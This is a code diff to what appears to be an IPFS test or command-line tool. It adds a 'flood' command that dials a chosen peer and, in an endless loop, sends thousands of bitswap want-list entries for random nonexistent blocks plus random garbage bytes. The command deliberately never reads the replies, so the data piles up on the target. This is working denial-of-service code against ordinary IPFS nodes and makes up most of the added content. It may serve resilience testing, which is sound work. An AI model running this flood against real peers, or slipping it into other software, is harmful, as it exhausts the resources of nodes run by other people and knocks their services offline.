@@ -4,12 +4,14 @@
 //   fetch ADDRESS CID OUT  fetches a file or directory by bitswap from one peer
 //   gateway URL CID OUT    fetches it from a trustless HTTP gateway
 //   block ADDRESS CID OUT  fetches one block by bitswap
+//   flood ADDRESS CID…     wants these blocks, and others that nobody has, without end and without reading any
 //   dht                    is a member of a DHT of IPFS of which it is the first, until it is ended
 //   dht ADDRESS PATH       the same beside that of another; announces a file there and serves it
 //   providers ADDRESS CID  asks the DHT of a member who has a CID
 //
 // Nothing but the named peer or gateway is ever contacted: no bootstrap peers, no DHT, no public gateways.
 import './node20.mjs'
+import { randomBytes } from 'node:crypto'
 import { createReadStream, createWriteStream } from 'node:fs'
 import { mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
 import { once } from 'node:events'
@@ -34,6 +36,13 @@ import { identity } from 'multiformats/hashes/identity'
 const TIMEOUT_MS = 100_000
 // Entries of a directory that are fetched at a time.
 const TOGETHER = 64
+
+const BITSWAP = '/ipfs/bitswap/1.2.0'
+
+/** A length, as protobuf writes it. */
+function varint (number) {
+  return number < 128 ? [number] : [number % 128 + 128, ...varint(Math.floor(number / 128))]
+}
 
 const say = (value) => console.log(JSON.stringify(value))
 const light = () => createHeliaLight({ codecs: [dagCbor] })
@@ -166,6 +175,43 @@ const commands = {
     })
     await helia.start()
     say({ bytes: await leave(helia, CID.parse(cid), out) })
+  },
+
+  async flood (address, ...cids) {
+    const helia = await peer()
+    const { libp2p } = helia
+    // What is sent is never read, so that it piles up wherever it may.
+    await libp2p.unhandle(BITSWAP)
+    await libp2p.handle(BITSWAP, (stream) => stream.pause())
+    await libp2p.dial(multiaddr(address))
+    say({ cid: '', address: '' })
+    const real = cids.map((cid) => CID.parse(cid).bytes)
+    const length = (bytes) => [...varint(bytes.length), ...bytes]
+    const entry = (cid, number) => length([
+      0x0a, ...length(cid), 0x10, 0x01, 0x20, number % 2, 0x28, 0x01
+    ])
+    for (let round = 0; ; round++) {
+      const stream = await libp2p.dialProtocol(multiaddr(address), BITSWAP)
+      try {
+        for (let message = 0; message < 100; message++) {
+          const none = Array.from({ length: 500 }, () => [0x01, 0x55, 0x12, 0x20, ...randomBytes(32)])
+          const entries = [...real, ...none].flatMap((cid, number) => [0x0a, ...entry(cid, number)])
+          const wanted = length([0x0a, ...length(entries)])
+          if (!stream.send(Uint8Array.from(wanted))) {
+            await stream.onDrain({ signal: AbortSignal.timeout(1000) })
+          }
+        }
+        // Nothing of this is a message.
+        stream.send(randomBytes(10_000))
+      } catch {
+        // A node may well have enough of this, and the next stream shows whether it does.
+      }
+      // Ended in order, or in the middle of what is under way.
+      if (round % 2 === 0) {
+        await stream.close({ signal: AbortSignal.timeout(1000) }).catch(() => {})
+      }
+      stream.abort(new Error('enough of this one'))
+    }
   },
 
   async dht (address, path) {
